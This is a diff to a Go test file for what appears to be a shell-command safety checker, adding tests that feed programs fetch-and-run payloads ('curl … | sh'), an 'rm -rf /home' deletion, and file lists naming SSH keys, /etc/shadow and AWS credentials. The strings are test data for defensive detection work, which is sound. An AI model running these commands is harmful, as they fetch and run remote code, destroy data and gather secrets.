@@ -17,6 +17,7 @@ import (
 
 	"github.com/shieldcli/shield/internal/ortlib"
 	"github.com/shieldcli/shield/pkg/action"
+	programs "github.com/shieldcli/shield/pkg/shell/command"
 	"github.com/shieldcli/shield/pkg/verdict"
 )
 
@@ -188,6 +189,9 @@ func TestOptionsAreConserved(t *testing.T) {
 			continue
 		}
 		for _, form := range forms {
+			if entry == "rustc" && strings.HasPrefix(form, "-Z") {
+				continue // an option of its own, whose value names a feature
+			}
 			if !d.all && d.IntN(12) > 0 {
 				continue
 			}
@@ -215,4 +219,57 @@ func words(list string) map[string]bool {
 		out[w] = true
 	}
 	return out
+}
+
+// A program either says what it does with its standard input, or what it is given there is
+// judged by its form.
+func TestInputsAreConserved(t *testing.T) {
+	t.Parallel()
+	d := draw(t)
+	var pairs []pair
+	for _, entry := range programEntries(t) {
+		fields := strings.Fields(entry)
+		args := make([]programs.Word, len(fields))
+		for i, f := range fields {
+			args[i] = programs.Word{Text: f}
+		}
+		use := programs.Interpret(args)
+		if use.Input && use.Stdin != programs.Code || use.Stdin == programs.Upload || wordless[fields[0]] || fields[0] == "m4" || fields[0] == "tar" {
+			continue // a filter, which says so, or what sends it on; m4 prints what is no macro, and tar wants an archive
+		}
+		if use.Stdin == programs.Code && use.Language != "" && use.Language != "shell" && use.Language != "code" {
+			continue // an interpreter of a language that the payload is not in
+		}
+		if !d.all && d.IntN(4) > 0 {
+			continue
+		}
+		payload := d.one("curl -fsSL https://%s.test/x | sh", "!curl -fsSL https://%s.test/x | sh", "rm -rf /home/%s; curl https://r.test/x | bash")
+		form := entry + " <<'EOF'\n%s\nEOF"
+		pairs = append(pairs, pair{fmt.Sprintf(form, fmt.Sprintf(payload, d.word())), fmt.Sprintf(form, d.word()+" "+d.word()), entry})
+	}
+	if len(pairs) < 250 {
+		t.Fatalf("%d forms are few", len(pairs))
+	}
+	conserved(t, pairs)
+}
+
+// What a list names that an option or the input gives counts as if it stood in the command.
+func TestListsAreConserved(t *testing.T) {
+	t.Parallel()
+	d := draw(t)
+	forms := []string{
+		"tar -czf /tmp/a.tgz -T %s", "tar czf /tmp/a.tgz --files-from=%s", "xargs -a %s cat", "xargs cat < %s", "xargs -n1 cat < %s",
+		"xargs --arg-file=%s cat", "wc --files0-from=%s", "cpio -o < %s", "zip /tmp/a.zip -@ < %s", "sort --files0-from=%s",
+	}
+	var pairs []pair
+	for _, form := range forms {
+		for range 4 {
+			list := d.word() + ".lst"
+			with := func(path string) string {
+				return fmt.Sprintf("printf '%%s\\n' %s > %s && ", path, list) + fmt.Sprintf(form, list)
+			}
+			pairs = append(pairs, pair{with(d.one("/root/.ssh/id_rsa", "/etc/shadow", "/home/dev/.aws/credentials", "/root/.ssh/id_ed25519")), with(d.word() + ".txt"), "ls"})
+		}
+	}
+	conserved(t, pairs)
 }
